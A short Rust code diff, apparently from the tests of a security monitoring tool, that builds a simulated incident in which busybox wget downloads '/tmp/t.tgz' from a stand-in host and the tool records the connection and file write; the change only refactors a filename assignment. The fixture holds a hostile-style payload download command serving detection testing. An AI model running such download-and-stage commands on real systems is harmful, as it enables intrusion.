@@ -16,7 +16,7 @@ use support::sessions::*;
 fn incident() -> Vec<SessionUpdate> {
     let i = info(100, SessionKind::Exec, 10 * S, None);
     let mut wget = image(0, 12 * S, "/bin/busybox", &["wget", "-O", "/tmp/t.tgz", "http://198.51.100.7/t.tgz"]);
-    wget.filename = b"/proc/self/exe".to_vec();
+    wget.filename = b"/proc/self/exe"[..].into();
     wget.connects =
         vec![connect(12 * S + 10, Transport::Tcp, "198.51.100.7", 80, ConnectOutcome::Connected, None, false)];
     wget.files = vec![file(12 * S + 20, FileOp::Open, "/tmp/t.tgz", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
